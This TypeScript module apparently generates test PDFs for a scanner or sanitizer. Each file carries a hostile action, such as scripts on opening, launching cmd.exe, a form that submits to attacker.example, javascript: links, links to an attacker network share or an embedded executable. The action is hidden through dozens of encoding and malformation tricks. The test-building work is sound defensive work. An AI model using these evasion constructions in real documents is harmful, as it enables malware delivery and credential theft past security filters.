import { deflateSync } from "node:zlib";
import {
  base85Of,
  escaped,
  hexOf,
  packObjects,
  PdfFile,
  predicted,
  runLengths,
} from "./pdf-file.ts";

/** The objects of a document of one page, by number: 1 is the catalog, 3 the page. */
interface Content {
  catalog?: string;
  page?: string;
  others?: readonly (readonly [number, string])[];
}

type Objects = readonly (readonly [number, string])[];

/** The objects of a document of one page. */
export const objectsOf = ({ catalog = "", page = "", others = [] }: Content): Objects => [
  [1, `<</Type/Catalog/Pages 2 0 R${catalog}>>`],
  [2, "<</Type/Pages/Kids[3 0 R]/Count 1>>"],
  [3, `<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]${page}>>`],
  ...others,
];

const annotation = (entries: string) => `/Annots[<</Type/Annot/Rect[0 0 9 9]${entries}>>]`;
const link = (address: string) => annotation(`/Subtype/Link/A<</S/URI/URI${address}>>`);
const script = "<</S/JavaScript/JS(app.alert(1))>>";

/** What the file does, by name. */
const acts: Readonly<Record<string, Content>> = {
  "a script at opening": { catalog: `/OpenAction${script}` },
  "scripts by name": { catalog: `/Names<</JavaScript<</Names[(a)${script}]>>>>` },
  "a script at closing": { catalog: `/AA<</WC${script}>>` },
  "a script of the page": { page: `/AA<</O${script}>>` },
  "a script of a field": {
    catalog: "/AcroForm<</Fields[7 0 R]>>",
    page: "/Annots[7 0 R]",
    others: [[7, `<</Subtype/Widget/FT/Tx/T(a)/Rect[0 0 9 9]/AA<</K${script}>>>>`]],
  },
  "printing at opening": { catalog: "/OpenAction<</S/Named/N/Print>>" },
  "a program": { page: annotation("/Subtype/Link/A<</S/Launch/F(cmd.exe)>>") },
  "a form that sends itself": {
    page: annotation("/Subtype/Link/A<</S/SubmitForm/F(https://attacker.example)>>"),
  },
  "data from elsewhere": { page: annotation("/Subtype/Link/A<</S/ImportData/F(x.fdf)>>") },
  "another file": { page: annotation("/Subtype/Link/A<</S/GoToR/F(x.pdf)/D[0/Fit]>>") },
  "an attached file": {
    catalog: "/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.exe)/EF<</F 8 0 R>>>>]>>>>",
  },
  "a file on the page": {
    page: annotation("/Subtype/FileAttachment/FS<</F(a.exe)/EF<</F 8 0 R>>>>"),
  },
  "a film with controls": { page: annotation("/Subtype/RichMedia") },
  "a link to a script": { page: link("(javascript:alert\\(1\\))") },
  "a link to a program": { page: link("(file:///c:/windows/system32/calc.exe)") },
  "a link to a file of the network": { page: link("(\\\\\\\\attacker\\\\share)") },
  "a link with an escaped address": { page: link("( \\152ava\\\nscript:alert\\(1\\))") },
  "a link in hexadecimal digits": { page: link(`<${hexOf("vbscript:a")}`) },
  "a link in letters of two bytes": {
    page: link(
      "(\\376\\377\\000j\\000a\\000v\\000a\\000s\\000c\\000r\\000i\\000p\\000t\\000:\\000a)",
    ),
  },
  "a link whose address is elsewhere": { page: link(" 7 0 R"), others: [[7, "(javascript:a)"]] },
  "a picture of the network": {
    others: [[7, "<</Ref<</F(//attacker/share)/Page 0>>>>"]],
  },
  "a form of its own language": { catalog: "/AcroForm<</XFA 8 0 R/Fields[]>>" },
};

/** A document whose object stream is written by a test; the file to attach is beside it. */
export const withObjectStream = (
  objects: Objects,
  write: (file: PdfFile, text: string, entries: string) => unknown,
) => {
  const file = new PdfFile();
  const { text, entries } = packObjects(objects);
  file.stream(8, "", "MZ");
  write(file, text, entries);
  const ids = objects.map(([id]) => id);
  return file.contained(9, ids).end(1).bytes();
};

const flate = "/Filter/FlateDecode";

/** Plain objects of a document. */
export const withPlainObjects = (objects: Objects) => {
  const file = new PdfFile().stream(8, "", "MZ");
  for (const [id, body] of objects) file.object(id, body);
  return file.end(1).bytes();
};

const head = (dictionary: string, keyword = "\nstream\n") => `9 0 obj\n<<${dictionary}>>${keyword}`;
const packed = (text: string) =>
  Buffer.concat([deflateSync(text), Buffer.from("\nendstream\nendobj\n")]);
/** An object stream with something unusual before its data. */
const odd =
  (dictionary: (entries: string) => string, keyword?: string, before = "", after = "") =>
  (objects: Objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file
        .raw(before)
        .mark(9)
        .raw(head(dictionary(entries), keyword))
        .raw(packed(text))
        .raw(after),
    );
const usual = (entries: string) => `${entries}${flate}`;

const inOtherSpelling = (objects: Objects): Objects =>
  objects.map(([id, body]) => [id, escaped(body)]);

/** Where the act is hidden, by name. */
const hidings: Readonly<Record<string, (objects: Objects) => Buffer>> = {
  "plain objects": withPlainObjects,
  "names in another spelling": (objects) => withPlainObjects(inOtherSpelling(objects)),
  "an object stream": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file.stream(9, `${entries}${flate}`, deflateSync(text)),
    ),
  "an object stream with names in another spelling": (objects) =>
    withObjectStream(inOtherSpelling(objects), (file, text, entries) =>
      file.stream(9, escaped(`${entries}${flate}`), deflateSync(text)),
    ),
  "an uncompressed object stream": (objects) =>
    withObjectStream(objects, (file, text, entries) => file.stream(9, entries, text)),
  "hexadecimal digits": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file.stream(9, `${entries}/Filter/ASCIIHexDecode`, hexOf(text)),
    ),
  "85 digits": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file.stream(9, `${entries}/Filter[/ASCII85Decode]`, base85Of(text)),
    ),
  "a predictor": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file.stream(
        9,
        `${entries}${flate}/DecodeParms<</Predictor 12/Columns 5>>`,
        predicted(text, 5),
      ),
    ),
  "a predictor in a list": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file.stream(
        9,
        `${entries}/Filter[/FlateDecode]/DecodeParms[<</Predictor 12/Columns 5>>]`,
        predicted(text, 5),
      ),
    ),
  "two filters": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file.stream(
        9,
        `${entries}/Filter[/ASCIIHexDecode/FlateDecode]`,
        hexOf(deflateSync(text).toString("latin1")),
      ),
    ),
  "run lengths": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file.stream(9, `${entries}/Filter/RunLengthDecode`, runLengths(text)),
    ),
  "a filter that another object names": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file.object(10, "/RunLengthDecode").stream(9, `${entries}/Filter 10 0 R`, runLengths(text)),
    ),
  "a short name of the filter": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file.stream(9, `${entries}/F/RL`, runLengths(text)),
    ),
  "a stream without an end": odd(usual, undefined, "20 0 obj\n<</Length 9>>\nstream\n"),
  "the data of another stream": odd(
    usual,
    undefined,
    "20 0 obj\n<</Length 9999>>\nstream\n",
    "endstream\nendobj\n",
  ),
  "streams in streams": odd(
    usual,
    undefined,
    "20 0 obj\n<</Length 9>>\nstream\n".repeat(200),
    "endstream\nendobj\n".repeat(200),
  ),
  "the data of a picture": odd(
    usual,
    undefined,
    "20 0 obj\n<</Subtype/Image/Filter/DCTDecode/Length 9999>>\nstream\n\xff\xd8\xff\xe0",
  ),
  "a comment": odd(usual, " stream\n", "% "),
  "a text": odd(usual, undefined, "20 0 obj\n(a\n", "1 2 3)\nendobj\n"),
  "an object that is not closed": odd(usual, undefined, "20 0 obj\n<</Filter/LZWDecode "),
  "a dictionary over another object": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file
        .mark(9)
        .raw(`9 0 obj\n<</Filter/RunLengthDecode endobj\n20 0 obj\n<<${entries}>>\nstream\n`)
        .raw(runLengths(text))
        .raw("\nendstream\nendobj\n"),
    ),
  "a text that looks like an object": odd(
    (entries) => `${entries}/X(1 0 obj <</Length 5>> endobj 9 0 obj <<)${flate}`,
  ),
  "a dictionary over a false one": odd((entries) => `/X<</A(endstream endobj)>>${usual(entries)}`),
  "a long comment before the data": odd(usual, `%${"x".repeat(50_000)}\nstream\n`),
  "long blanks before the data": odd(usual, `${" ".repeat(50_000)}stream\n`),
  "more behind the word": odd(usual, "\nstream anything\n"),
  "a blank behind the word": odd(usual, "\nstream \n"),
  "the word beside its dictionary": odd(usual, "stream\r\n"),
  "a comment behind the object's number": (objects) =>
    withObjectStream(objects, (file, text, entries) =>
      file
        .mark(9)
        .raw(`9%a\n0%b\nobj%c <<>>\n%d\n<<${usual(entries)}>>stream\n`)
        .raw(packed(text)),
    ),
  "no type": odd((entries) => usual(entries.replace("/Type/ObjStm", ""))),
  "another type": odd((entries) => usual(entries.replace("ObjStm", "XObject"))),
  "a key that stands twice": odd((entries) => `/Filter/LZWDecode${usual(entries)}`),
  "a key without a name": odd((entries) => `5 ${usual(entries)}`),
  "a false length": odd((entries) => `/Length 3${usual(entries)}`),
  "a later revision": (objects) => {
    const file = new PdfFile().raw(withPlainObjects(objectsOf({})).subarray(15));
    const { text, entries } = packObjects(objects);
    file.stream(8, "", "MZ").stream(9, usual(entries), deflateSync(text));
    file
      .contained(
        9,
        objects.map(([id]) => id),
      )
      .end(1);
    return file.bytes();
  },
  "an earlier revision": (objects) => {
    const file = new PdfFile().stream(8, "", "MZ");
    const { text, entries } = packObjects(objects);
    file.stream(9, usual(entries), deflateSync(text));
    file
      .contained(
        9,
        objects.map(([id]) => id),
      )
      .end(1);
    for (const [id, body] of objectsOf({})) file.object(id, body);
    return file.end(1).bytes();
  },
  "objects that nothing refers to": (objects) => {
    const file = new PdfFile();
    for (const [id, body] of objectsOf({})) file.object(id, body);
    const { text, entries } = packObjects(objects.map(([id, body]) => [id + 50, body]));
    return file.stream(9, usual(entries), deflateSync(text)).end(1).bytes();
  },
  "an object stream in an object stream": (objects) => {
    const inner = packObjects(objects);
    const hex = hexOf(inner.text);
    const body = `<<${inner.entries}/Filter/ASCIIHexDecode/Length ${hex.length}>>stream\n${hex}\nendstream`;
    const outer = packObjects([[9, body]]);
    return new PdfFile()
      .stream(8, "", "MZ")
      .stream(11, usual(outer.entries), deflateSync(outer.text))
      .contained(11, [9])
      .contained(
        9,
        objects.map(([id]) => id),
      )
      .end(1)
      .bytes();
  },
};

const first = "a script at opening";

/** Files that do something when they are opened or clicked, by name: a script in every hiding, every act in three. */
export const pdfAttacks: readonly (readonly [string, () => Buffer])[] = [
  ...Object.entries(hidings).map(
    ([name, hide]) => [`${first}, in ${name}`, () => hide(objectsOf(acts[first] ?? {}))] as const,
  ),
  ...["plain objects", "names in another spelling", "a stream without an end"].flatMap((name) =>
    Object.entries(acts)
      .filter(([act]) => act !== first)
      .map(
        ([act, content]) =>
          [`${act}, in ${name}`, () => hidings[name]?.(objectsOf(content)) ?? Buffer.of()] as const,
      ),
  ),
];
